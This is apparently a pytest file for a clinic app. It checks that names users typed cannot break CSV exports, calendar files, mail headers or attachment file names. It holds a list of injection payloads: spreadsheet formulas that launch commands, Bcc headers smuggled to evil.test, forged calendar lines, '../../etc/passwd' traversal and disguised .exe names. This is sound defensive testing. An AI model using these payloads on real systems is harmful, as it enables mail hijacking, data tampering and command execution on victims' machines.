"""Whatever leaves the clinic as a table, a calendar, a mail or a file: nothing that somebody typed is ever a formula, a
line of its own, another recipient or another file name (S10).
"""

import csv
import inspect
import io
import re
from datetime import timedelta
from email import message_from_bytes, policy
from itertools import product
from pathlib import Path

import pytest
import sqlalchemy as sa

from clinic.aftercare.calendar import entries as to_practise
from clinic.aftercare.models import PracticeReminder
from clinic.booking import calendar
from clinic.booking.models import Appointment
from clinic.bringing.taking import calendar as taken_along
from clinic.core.db import db, writing
from clinic.core.mail import Letter, Sender, envelope
from clinic.core.spreadsheet import line
from clinic.people.models import Account, Client, Therapist
from clinic.places.models import Clinic, Location, Room
from clinic.qualifications.models import ContinuingEducation
from clinic.referrals.models import Contact
from clinic.treatments.models import Treatment
from tests.conftest import NOW
from tests.house.test_access_matrix import READS, SLOT
from tests.letterbox import Letterbox
from tests.steps import book

SOURCES = {path: path.read_text() for path in (Path(__file__).parent.parent.parent / "clinic").rglob("*.py")}
BEGINNINGS = ("", "=", "+", "-", "@", "\t=", "\r=", "\n-", "  =", "＝", "＠", "a;=", "a,@", "a|+", 'a"=', "Née ")
ENDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.test","here")',
    "x\r\nBcc: other@evil.test\r\n\r\n<b>other words</b>",
    "x\nBcc: other@evil.test",
    "x\rBcc: other@evil.test",
    "x\u2028Bcc: other@evil.test\u2029",
    "x\x85Bcc: other@evil.test\x0bBcc: a@evil.test\x0cBcc: b@evil.test\x1cBcc: c@evil.test",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
    "x\nEND:VCALENDAR\nBEGIN:VCALENDAR",
    "x\rATTACH:http://evil.test",
    "x\\nATTACH:http://evil.test",
    '";CN="x":mailto:other@evil.test',
    ";ROLE=CHAIR:mailto:other@evil.test",
    "x^nATTACH:http://evil.test^'",
    "=?utf-8?Q?x=0D=0ABcc=3A_other=40evil=2Etest?=",
    "=?utf-8?B?DQpCY2M6IG90aGVyQGV2aWwudGVzdA==?=",
    "x, other@evil.test",
    "x <other@evil.test>",
    '../../etc/passwd"; filename="evil.exe',
    "x; filename*=UTF-8''evil.exe",
    "\u202egnp.exe\u200b\ufeff",
    "\x1b[2J\x07\x08",
    "😀 “née” <script>alert(1)</script>",
    '"\n"=1+1","',
    "'=1+1",
    "\\",
    "1;2;3\t=4",
    "\U000e0001\ufffe",
    "x" * 80,
    "x\u00ad y\u00a0z",
    "%0d%0aBcc:%20other@evil.test",
    "{{ 7 * 7 }} ${7*7} #{7*7}",
)
PAYLOADS = [f"{beginning}{end}" for beginning, end in product(BEGINNINGS, ENDS)]
FORMULA = tuple("=+-@＝＋－＠")
PROPERTY = re.compile(r"[A-Z][A-Z0-9-]*[;:]")
OF_CALENDARS = {
    *("BEGIN", "END", "VERSION", "PRODID", "METHOD", "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "LOCATION"),
    *("SEQUENCE", "STATUS", "TRANSP", "ORGANIZER", "ATTENDEE", "CATEGORIES", "X-WR-CALNAME", "REFRESH-INTERVAL"),
    *("X-PUBLISHED-TTL", "X-SECOND-MINUTES", "DURATION", "RRULE", "ACTION", "TRIGGER", "DESCRIPTION"),
}
OF_MAILS = {
    *("From", "Reply-To", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "MIME-Version", "Content-Type"),
    *("List-Unsubscribe", "List-Unsubscribe-Post"),
}
FILE_NAME = re.compile(r"attachment; filename=[a-z0-9-]+\.(csv|ics|pdf|jpg)")


def table_faults(text, width=None):
    """Cells that a spreadsheet would take for a formula, whatever it parts them by, and lines that are none."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    width = width or len(rows[0])
    faults = [row for row in rows if len(row) != width]
    for delimiter in ",;\t|":
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        faults += [cell for cell in cells if cell.strip().startswith(FORMULA) or cell.startswith(("\t", "\r", "\n"))]
    return faults


def calendar_faults(data, events):
    """Lines that are none of ours, and anything that some reader takes for the end of a line."""
    text = data.decode()
    unfolded = text.replace("\r\n ", "").replace("\r\n\t", "").removesuffix("\r\n")
    lines = unfolded.split("\r\n")
    faults = [one for one in lines if len(one.splitlines()) != 1]
    faults += [one for one in lines if not PROPERTY.match(one) or re.split("[;:]", one)[0] not in OF_CALENDARS]
    for what in ("BEGIN:VEVENT", "END:VEVENT", "UID:"):
        if sum(one.startswith(what) for one in lines) != events:
            faults.append((what, events))
    return faults


def mail_faults(message):
    """Heads that are none of ours or come twice, more than one recipient, and lines that some reader ends earlier."""
    data = bytes(message)
    read = message_from_bytes(data, policy=policy.default)
    names = read.keys()
    faults = [name for name in names if name not in OF_MAILS or names.count(name) > 1]
    head = data.partition(b"\n\n")[0].decode("ascii")
    faults += [
        one for one in re.split("[\r\n\x0b\x0c\x1c\x1d\x1e\x85]", head) if not re.match(r"[A-Z][\w-]+: ?|[ \t]", one)
    ]
    addresses = [one.addr_spec for name in ("To", "From", "Reply-To") if read[name] for one in read[name].addresses]
    if len(read["To"].addresses) != 1 or any("evil" in one for one in addresses):
        faults.append(addresses)
    return faults


def test_there_are_five_hundred_of_them():
    assert len(set(PAYLOADS)) >= 500


def test_no_cell_of_a_table_is_a_formula_or_two_cells():
    assert {payload: found for payload in PAYLOADS if (found := table_faults(line([payload, "next", 3]), 3))} == {}


def test_a_calendar_holds_the_lines_it_was_made_of_and_no_other(app, cast, visitor):
    book(visitor)
    appointment = db.session.scalars(sa.select(Appointment)).one()
    clinic, location = db.session.get(Clinic, 1), db.session.get(Location, cast.location.id)
    appointment.client.email = "clara@client.test"
    chosen = PracticeReminder(plan_id=appointment.id, weekdays=[0], at_minutes=480, by_mail=False, chosen_at=NOW)
    faults = {}
    for payload in PAYLOADS:
        with db.session.no_autoflush, app.test_request_context():
            clinic.name = location.address = appointment.therapist.name = appointment.client.name = payload
            appointment.treatment.mail_name = payload
            made = [
                calendar.entry(appointment, clinic, location, title=payload, now=NOW),
                calendar.invitation(
                    appointment, payload, payload, organizer="desk@clinic.test", clinic=payload, now=NOW
                ),
                calendar.feed([(appointment, payload, payload)], payload),
                to_practise(chosen, clinic=payload, first=NOW.date(), until=None),
            ]
        if found := [fault for one in made for fault in calendar_faults(one, 1)]:
            faults[payload] = found
    db.session.rollback()
    assert faults == {}


def test_what_is_taken_along_as_a_calendar_holds_no_other_lines_either(app, cast, visitor):
    book(visitor)
    faults = {}
    for payload in PAYLOADS:
        with writing():
            call_everybody(payload)
            db.session.flush()
        with app.test_request_context():
            data = b"".join(taken_along(db.session, db.session.get(Clinic, 1)))
        if found := calendar_faults(data, 1):
            faults[payload] = found
        db.session.rollback()
    assert faults == {}


def test_the_head_of_a_mail_holds_what_it_was_made_of_and_nothing_else(app):
    faults = {}
    for payload in PAYLOADS:
        with app.test_request_context():
            letter = Letter(
                to="clara@client.test",
                subject=payload,
                text=f"Hello {payload}",
                calendar=b"BEGIN:VCALENDAR",
                unsubscribe="https://clinic.test/plans/a.b/reminders/end",
            )
            made = envelope(letter, Sender("desk@clinic.test", payload, ""), message_id="1", now=NOW)
        if found := mail_faults(made):
            faults[payload] = found
    assert faults == {}


def call_everybody(payload):
    """All names that clients, therapists and the clinic chose, as far as their columns let them."""
    for model, names in {
        Clinic: ("name", "tagline", "mail_name"),
        Location: ("name", "address"),
        Room: ("name",),
        Therapist: ("name",),
        Treatment: ("name", "mail_name"),
        Client: ("name", "phone"),
        Contact: ("name", "practice", "address"),
    }.items():
        columns = model.__table__.columns
        values = {name: payload[: columns[name].type.length] for name in names}
        db.session.execute(sa.update(model).values(values).execution_options(synchronize_session=False))
    db.session.expire_all()


EVIL = '=1\r\nBcc: other@evil.test\r\nBEGIN:VEVENT\r\n";CN="x'


@pytest.fixture
def evil_world(world):
    """Everybody and everything has a bad name; and there are five hundred clients, each with another."""
    with writing():
        call_everybody(EVIL)
        db.session.add_all(
            Client(name=payload[:120], email=f"c{n}@client.test", phone=payload[:40], created_at=NOW)
            for n, payload in enumerate(PAYLOADS)
        )
        db.session.add_all(_learned(world.places["ana_id"], payload) for payload in PAYLOADS)
        db.session.execute(sa.update(Account).values(name=EVIL))
        db.session.commit()
    return world


def _learned(therapist_id, payload):
    told = {"title": payload[:160], "provider": payload[:160], "provider_no": payload[:40], "reflection": payload}
    return ContinuingEducation(
        therapist_id=therapist_id, done_on=NOW.date(), minutes=5, category="general", changed_at=NOW, **told
    )


def exports(world):
    """Every answer with a file, a table or a calendar, by who asked and for what."""
    app, found = world.app, {}
    world.places["slot"] = SLOT
    adapter = app.url_map.bind("localhost")
    for path in READS:
        view = app.view_functions[adapter.match(world.at(path).partition("?")[0], "GET")[0]]
        source = SOURCES[Path(inspect.getsourcefile(inspect.unwrap(view)))]
        for who in ("ana", "olu") if re.search("Content-Disposition|text/(csv|calendar)", source) else ():
            answer = world.visitor(who)._request("GET", world.at(path))
            if answer.status_code == 200 and answer.mimetype != "text/html":
                found[who, path] = answer
    olu = world.visitor("olu")
    olu.get("/clinic/import")
    rows = "".join(line([payload, "nobody", ""]) for payload in PAYLOADS)
    sheet = io.BytesIO(f"Name,Email,Phone\r\n{rows}".encode())
    olu.post("/clinic/import", kind="clients", file=(sheet, "theirs.csv"))
    olu.send(re.search(r'action="(/clinic/import/[^"]+)"', olu.page.text)[1], bring="yes")
    found["olu", "left out"] = olu.get(olu.link("All of these"))
    return found


def test_every_file_table_and_calendar_of_every_page_is_safe(evil_world):
    given = exports(evil_world)
    named = {answer.headers.get("Content-Disposition", "attachment; filename=none.csv") for answer in given.values()}
    assert [one for one in named if not FILE_NAME.fullmatch(one)] == []
    in_source = {name for source in SOURCES.values() for name in re.findall(r"; filename=([\w.-]+)", source)}
    assert in_source - {one.rpartition("=")[2] for one in named} == set()  # none was forgotten
    faults, tables = {}, {}
    for asked, answer in given.items():
        if answer.mimetype == "text/csv":
            tables[asked] = answer.data.decode("utf-8-sig").count("evil")
            faults[asked] = table_faults(answer.data.decode("utf-8-sig"))
        if answer.mimetype == "text/calendar":
            faults[asked] = calendar_faults(answer.data, answer.data.count(b"\r\nUID:"))
    assert {asked: found for asked, found in faults.items() if found} == {}
    assert len(faults) >= 7
    assert sum(count > 100 for count in tables.values()) >= 3  # clients, what was learned, what was left out


def test_every_mail_to_and_about_such_people_is_safe_and_is_sent(evil_world):
    box = Letterbox()
    for _ in range(5):
        box.round(evil_world.app, NOW + timedelta(minutes=5))
    assert len(box.mails) >= 3
    assert [found for mail in box.mails if (found := mail_faults(mail))] == []
    invitations = [part for mail in box.mails for part in mail.walk() if part.get_content_type() == "text/calendar"]
    assert [found for one in invitations if (found := calendar_faults(one.get_payload(decode=True), 1))] == []


@pytest.mark.parametrize(
    ("made", "where"),
    [
        (r"\bEmailMessage\(", {"core/mail.py"}),
        (r"bytes\(\w+\.to_ical\(", {"aftercare/calendar.py", "booking/calendar.py", "bringing/taking.py"}),
        (r"\bcsv\.writer\(", {"core/spreadsheet.py"}),
    ],
)
def test_tables_calendars_and_mails_are_made_where_this_is_looked_at(made, where):
    root = Path(__file__).parent.parent.parent / "clinic"
    assert {path.relative_to(root).as_posix() for path, source in SOURCES.items() if re.search(made, source)} == where
